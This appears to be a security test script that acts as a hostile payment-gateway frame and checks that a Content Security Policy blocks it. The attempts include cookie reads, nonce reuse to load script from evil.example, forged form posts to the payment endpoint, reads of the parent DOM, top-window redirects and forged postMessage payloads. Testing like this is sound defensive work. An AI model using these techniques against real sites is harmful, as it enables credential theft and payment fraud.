// A gateway's script that tries to act as the client. What came of each try leaves by the one door that is open.
"use strict";

(() => {
  const { portal, payment } = tollgate.data;
  const found = {};

  // Whatever throws or fails is how it should be; what it said tells why.
  const attempt = async (name, task) => {
    try {
      found[name] = "GOT " + String(await task()).slice(0, 200);
    } catch (error) {
      found[name] = "refused: " + error.name;
    }
  };
  // The policy's own word that it refused this before anything was sent. Where it never comes, the page never goes on.
  const violation = (directive, task) => new Promise((resolve, reject) => {
    const heard = (event) => {
      if (event.effectiveDirective !== directive) return;
      document.removeEventListener("securitypolicyviolation", heard);
      reject(new DOMException("", directive));
    };
    document.addEventListener("securitypolicyviolation", heard);
    task();
  });
  const asks = (options) => () => { fetch(portal + "/logout", { credentials: "include", ...options }).catch(() => {}); };
  const loads = (element, address) => () => {
    element.src = address;
    document.body.append(element);
  };

  const run = async () => {
    found.cookies = document.cookie === "" ? "refused: none" : "GOT " + document.cookie;
    await attempt("fetch", () => violation("connect-src", asks({})));
    await attempt("blind", () => violation("connect-src", asks({ method: "POST", mode: "no-cors" })));
    await attempt("image", () => violation("img-src", loads(new Image(), portal + "/billing/invoices")));
    const script = document.createElement("script");
    await attempt("script", () => violation("script-src-elem", loads(script, portal + "/assets/tollgate.js")));
    // A nonce could be read and used again: there must be none.
    const elsewhere = document.createElement("script");
    elsewhere.nonce = document.querySelector("script").nonce;
    await attempt("elsewhere", () => violation("script-src-elem", loads(elsewhere, "https://evil.example/a.js")));
    await attempt("eval", () => window.eval("1 + 1"));
    await attempt("inline", () => violation("script-src-elem", () => {
      const script = document.createElement("script");
      script.textContent = "window.inline = true";
      document.body.append(script);
    }));
    await attempt("form", () => violation("form-action", () => {
      // In a frame of its own, because a form that is refused takes the page that it stands in with it.
      const inner = document.createElement("iframe");
      inner.name = "inner";
      document.body.append(inner);
      const form = document.createElement("form");
      form.target = "inner";
      form.method = "post";
      form.action = portal + payment;
      document.body.append(form);
      form.submit();
    }));
    await attempt("frame", () => violation("frame-src", () => {
      const frame = document.createElement("iframe");
      frame.src = portal + payment;
      document.body.append(frame);
    }));
    await attempt("parent", () => window.parent.document.body.innerHTML);
    await attempt("top", () => { window.top.location.href = portal + "/billing/credit"; return "it left"; });
    await attempt("worker", () => navigator.serviceWorker.register("/confined/assets/tollgate-confined.js"));
    await attempt("popup", () => {
      const popup = window.open(portal + "/billing/invoices");
      return popup.document.body.innerHTML;
    });
    // Past our script in this frame, straight to the page around it.
    const many = Object.fromEntries(Array.from({ length: 21 }, (_, index) => ["f" + index, "x"]));
    const forged = [
      "submit",
      null,
      { tollgate: "submit" },
      { tollgate: "submit", fields: null },
      { tollgate: "submit", fields: { csrf: "0" } },
      { tollgate: "submit", fields: { form_key: "0" } },
      { tollgate: "submit", fields: { forged: 1 } },
      { tollgate: "submit", fields: { forged: "x".repeat(4001) } },
      { tollgate: "submit", fields: { "forged name": "x" } },
      { tollgate: "submit", fields: many },
      { tollgate: "leave", fields: { forged: "x" } },
      { tollgate: "height", height: "100vh" },
    ];
    forged.forEach((message) => window.parent.postMessage(message, "*"));
    for (const fields of [{ csrf: "0" }, { a: 1 }, many]) {
      await attempt("wrong-" + Object.keys(fields).length + Object.keys(fields)[0], () => tollgate.submit(fields));
    }
  };

  const button = document.getElementById("pay");
  button.disabled = true;
  run().then(() => {
    button.disabled = false;
    button.addEventListener("click", () => {
      tollgate.submit({ ...found, requestSubmit: "taken", querySelectorAll: "taken" });
      tollgate.submit({ second: "too many" });
    });
  });
})();
